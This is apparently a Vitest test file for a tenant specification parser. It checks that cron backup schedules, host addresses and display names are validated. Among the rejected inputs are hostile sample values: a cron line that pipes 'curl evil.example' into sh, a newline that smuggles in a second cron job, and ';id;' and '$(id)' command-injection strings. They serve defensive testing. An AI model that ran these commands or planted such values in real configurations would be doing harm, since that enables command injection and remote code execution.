/**
 * The tenant spec's grammar at the edge: every value that reaches a cron line
 * (the backup schedule), a DNS record (the host address) or the runtime's
 * environment (the display name) is refused before anything runs when it
 * carries quotes, newlines or extra words.
 */
import { describe, expect, it } from "vitest";
import { SAMPLE_HOST_KEY } from "../testing/tenantSamples.ts";
import { exampleTenant } from "./exampleTenant.ts";
import { parseTenantSpec, TenantSpecError, type TenantSpecInput } from "./tenantSpec.ts";

const host = { url: "ssh://root@198.51.100.7:22", hostKey: SAMPLE_HOST_KEY, address: "198.51.100.7" };
const base = exampleTenant({ host });
const withBackups = (schedule: string): TenantSpecInput => ({
  ...base,
  backups: { enabled: true, bucket: "mindroom-backups", region: "eu-central-1", schedule },
});
const problems = (input: TenantSpecInput): readonly string[] => {
  try {
    parseTenantSpec(input);
    return [];
  } catch (error) {
    if (error instanceof TenantSpecError) return error.issues;
    throw error;
  }
};

describe("tenant spec grammar", () => {
  it("takes five-field cron schedules and macros for backups", () => {
    for (const schedule of ["0 */6 * * *", "15 0,6,12,18 * * mon-fri", "*/30 1-23/2 1 jan *", "@hourly"])
      expect(problems(withBackups(schedule))).toEqual([]);
  });

  it("refuses a schedule that could become another part of the cron line", () => {
    for (const schedule of [
      "0 0 * * * root curl evil.example | sh",
      "0 0 * * *\n* * * * * root id",
      "0 0 * * * #",
      "0 0 * * ';id;'",
      "0  0 * * *",
      "0 0 * *",
      " 0 0 * * *",
      "@reboot",
      "",
    ])
      expect(problems(withBackups(schedule))).toEqual([
        "backups.schedule: must be a five-field cron expression like 0 */6 * * * (or @hourly, @daily)",
      ]);
  });

  it("takes an IP address or a DNS name for the host address, nothing else", () => {
    for (const address of ["198.51.100.7", "2001:db8::7", "dokku-1.example.com"])
      expect(problems({ ...base, host: { ...host, address } })).toEqual([]);
    for (const address of [
      "",
      "198.51.100.7\n",
      "host.example.com'",
      "a b",
      "https://x.example",
      "X.example",
    ])
      expect(problems({ ...base, host: { ...host, address } })).toEqual([
        "host.address: must be an IP address or a lowercase DNS name",
      ]);
  });

  it("takes a display name with quotes as text, and refuses control characters", () => {
    expect(parseTenantSpec({ ...base, displayName: `Jane's "agents" $(id)` }).displayName).toBe(
      `Jane's "agents" $(id)`,
    );
    for (const displayName of ["Jane\nDoe", "Jane\tDoe", "Jane\u0000", "\u001b[31mred"])
      expect(problems({ ...base, displayName })).toEqual([
        "displayName: must be one line of text without control characters",
      ]);
  });
});
